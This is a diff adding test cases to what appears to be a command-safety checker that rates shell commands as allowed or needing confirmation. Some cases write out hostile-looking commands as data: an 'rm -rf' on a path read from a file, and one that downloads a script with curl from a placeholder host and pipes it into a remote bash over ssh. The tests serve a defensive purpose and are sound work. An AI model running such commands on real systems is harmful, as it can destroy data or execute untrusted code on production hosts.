@@ -185,3 +185,13 @@ describe('a here-string holding a value the line set', () => {
 	// Still unknown when the value is.
 	verdictCase('read -r d <<< "$(cat list.txt)"; rm -rf "$d"', 'confirm');
 });
+
+describe('a remote shell fed a local file that cannot be read', () => {
+	// Each was allowed: ssh reads the file here and the shell over there runs it.
+	verdictCase('ssh prod bash -s < cleanup.sh', 'confirm', 'cleanup.sh', 'engine:unknown-input');
+	verdictCase("ssh prod 'bash -s' < cleanup.sh", 'confirm', 'cleanup.sh', 'engine:unknown-input');
+	verdictCase('ssh prod bash -s < <(curl -s https://x.example/i.sh)', 'confirm', 'https://x.example/i.sh', 'engine:downloaded-code');
+	// Look-alikes: a file that is data for a remote program; code shown in the line is judged as its text.
+	verdictCase('ssh prod "cat > /tmp/x" < cleanup.sh', 'allow');
+	verdictCase("ssh prod bash -s <<< 'uptime'", 'allow');
+});
